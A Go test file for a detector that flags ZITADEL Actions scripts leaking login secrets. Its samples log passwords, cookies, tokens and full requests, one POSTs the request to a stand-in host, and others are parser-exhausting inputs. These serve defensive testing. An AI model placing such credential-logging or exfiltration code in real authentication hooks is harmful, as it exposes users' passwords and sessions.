package scripts

import (
	"strings"
	"testing"
	"time"

	actionsscripts "github.com/zitadel-siem/zitadel-siem/actions-scripts"
	"github.com/zitadel-siem/zitadel-siem/internal/testkit"
)

// example does what post_auth_log.js of zitadel/actions does: it prints key/value pairs
// and the request as JSON.
const example = `
let logger = require("zitadel/log")
function log(ctx, api) {
    if (ctx.v1.authError == "none") {
        logger.log("successful login: username/" + ctx.v1.authRequest.userName + ", request/" + JSON.stringify(ctx.v1.httpRequest))
    } else {
        logger.log("authentication failed: error/" + ctx.v1.authError + ", request/" + JSON.stringify(ctx.v1.httpRequest))
    }
}`

// logs is a script around one statement.
func logs(statement string) string {
	return "let logger = require('zitadel/log');\nfunction f(ctx, api) {\n" + statement + "\n}"
}

func TestAScriptThatPrintsPasswordsIsFoundByWhatItDoes(t *testing.T) {
	for name, source := range map[string]string{
		"ZITADEL's example":            example,
		"with other names":             strings.NewReplacer("logger", "out", "function log(ctx", "function log(context", "ctx.", "context.").Replace(example),
		"without line breaks":          strings.ReplaceAll(example, "\n", " "),
		"with comments inside":         strings.ReplaceAll(example, "JSON.stringify(", "JSON /* safe */ . stringify ( // here\n"),
		"only failures":                logs(`if (ctx.v1.authError !== "none") logger.warn(JSON.stringify(ctx.v1.httpRequest))`),
		"by a variable":                logs(`const r = ctx.v1.httpRequest; const s = JSON.stringify(r, null, 2); logger.log("login: " + s)`),
		"by a pattern":                 logs(`const { httpRequest, authRequest } = ctx.v1; logger.log(JSON.stringify({ user: authRequest.userName, httpRequest }))`),
		"by a pattern with names":      logs(`const { v1: { httpRequest: req } } = ctx; logger.log(JSON.stringify(req))`),
		"by a pattern in the argument": "function f({ v1 }, api) { require('zitadel/log').log(JSON.stringify(v1.httpRequest)) }",
		"by a function":                "function dump(x) { return JSON.stringify(x) }\n" + logs(`logger.log(dump(ctx.v1.httpRequest.form))`),
		"by an arrow function":         "const dump = x => JSON.stringify(x);\n" + logs(`logger.log(dump(ctx.v1.httpRequest.headers))`),
		"by a function's result":       "function request(c) { return c.v1.httpRequest }\n" + logs(`logger.log(JSON.stringify(request(ctx)))`),
		"by brackets":                  logs("logger.log(`${JSON['stringify'](ctx['v1']['httpRequest'])}`)"),
		"the form":                     logs(`logger.log(JSON.stringify(ctx.v1.httpRequest.postForm))`),
		"the headers":                  logs(`logger.log("headers: " + JSON.stringify(ctx.v1.httpRequest.headers))`),
		"a copy":                       logs(`var h = Object.assign({}, ctx.v1.httpRequest.headers); logger.log(JSON.stringify(h))`),
		"a spread":                     logs(`logger.log(JSON.stringify({ ...ctx.v1.httpRequest, at: 1 }))`),
		"the context":                  logs(`logger.log(JSON.stringify(ctx))`),
		"ctx.v1":                       logs(`logger.log(JSON.stringify(ctx.v1))`),
		"a format":                     logs(`console.log("%j", ctx.v1.httpRequest)`),
		"key by key":                   logs(`let s = ""; for (const k in ctx.v1.httpRequest.headers) { s += k + ctx.v1.httpRequest.headers[k] } logger.log(s)`),
		"entries":                      logs(`Object.entries(ctx.v1.httpRequest.form).forEach(([k, v]) => logger.log(k + "=" + v))`),
		"keys":                         logs(`const h = ctx.v1.httpRequest.headers; Object.keys(h).map(k => h[k]).forEach(v => logger.log(v))`),
		"the password":                 logs(`logger.log("pw " + ctx.v1.httpRequest.form.password[0])`),
		"the cookies":                  logs(`logger.error(ctx.v1.httpRequest.headers["Cookie"].join(";"))`),
		"a token":                      logs(`logger.log(ctx.accessToken)`),
		"sent away":                    "function f(ctx, api) { require('zitadel/http').fetch('https://x.example', { method: 'POST', body: { r: JSON.stringify(ctx.v1.httpRequest) } }) }",
		"syntax of a newer engine":     logs(`logger.log(JSON.stringify(ctx.v1.httpRequest)) |> x`),
	} {
		if leaks("log", source) == "" && leaks("f", source) == "" {
			t.Errorf("%s: not found in\n%s", name, source)
		}
	}
}

func TestAScriptThatPrintsNoSecretIsNoDanger(t *testing.T) {
	for name, source := range map[string]string{
		"post_auth_log":        actionsscripts.PostAuthLog,
		"post_auth_webhook":    actionsscripts.PostAuthWebhook,
		"nothing":              "",
		"the address":          logs(`logger.log("from " + ctx.v1.httpRequest.remoteAddr + " " + ctx.v1.authRequest.userName)`),
		"a header":             logs(`logger.log(ctx.v1.httpRequest.headers["User-Agent"][0])`),
		"a comment":            logs(`// logger.log(JSON.stringify(ctx.v1.httpRequest))`),
		"a text":               logs(`logger.log("JSON.stringify(ctx.v1.httpRequest)")`),
		"other JSON":           logs(`logger.log(JSON.stringify({ user: ctx.v1.authRequest.userName, from: ctx.v1.httpRequest.remoteAddr }))`),
		"the provider's user":  logs(`logger.log("ProviderInfo: " + JSON.stringify(ctx.v1.providerInfo))`),
		"no output":            "function f(ctx, api) { let s = JSON.stringify(ctx.v1.httpRequest); if (s.length > 100) { throw 'long' } }",
		"a token for an API":   "function f(ctx, api) { require('zitadel/http').fetch('https://x.example', { headers: { Authorization: 'Bearer ' + ctx.accessToken } }) }",
		"claims":               "function f(ctx, api) { api.v1.claims.setClaim('roles', ctx.v1.user.grants.grants.map(g => g.roles)) }",
		"no JavaScript at all": "<html>",
	} {
		if leak := leaks("f", source); leak != "" {
			t.Errorf("%s: %q", name, leak)
		}
	}
}

// An organization's owner can write any script. Whoever looks at it must get an end.
func TestAHostileScriptCostsLittle(t *testing.T) {
	size := 40000 // ZITADEL's limit
	if testkit.Race {
		size /= 20
	}
	for name, source := range map[string]string{
		"calls":      strings.Repeat("a(", size/3) + strings.Repeat(")", size/3),
		"parens":     strings.Repeat("(", size/2-1) + "1" + strings.Repeat(")", size/2-1),
		"sums":       strings.Repeat("x+", size/2-1) + "x",
		"chain":      "x" + strings.Repeat(".a()", size/4-1),
		"functions":  strings.Repeat("function f(){", size/14-1) + strings.Repeat("}", size/14-1),
		"lists":      strings.Repeat("[", size/2-1) + strings.Repeat("]", size/2-1),
		"blocks":     strings.Repeat("{", size/2-1) + strings.Repeat("}", size/2-1),
		"unfinished": strings.Repeat("f(x=>{", size/6),
		"assigned":   strings.Repeat("a=b=>", size/5-1) + "1",
	} {
		began := time.Now()
		leaks("f", source)
		if took := time.Since(began); took > time.Minute { // some 100 ms in fact, but for a parser that does not end
			t.Errorf("%s: %s", name, took)
		} else {
			t.Log(name, took)
		}
	}
}

// A server may send more than ZITADEL does. The parser would overflow its stack.
func TestAHugeScriptIsJudgedByItsText(t *testing.T) {
	deep := strings.Repeat("(", 4<<20)
	if leak := leaks("f", deep); leak != "" {
		t.Error(leak)
	}
	if leak := leaks("f", example+deep); leak == "" {
		t.Error("the example is not found")
	}
}

func FuzzLeaks(f *testing.F) {
	for _, seed := range []string{example, actionsscripts.PostAuthLog, logs("const { a: [b = c], ...d } = ctx?.v1; class X { #y = 1; static { z } }"), "async function* f() { yield await 1 }"} {
		f.Add("log", seed)
	}
	f.Fuzz(func(t *testing.T, name, source string) { leaks(name, source) })
}
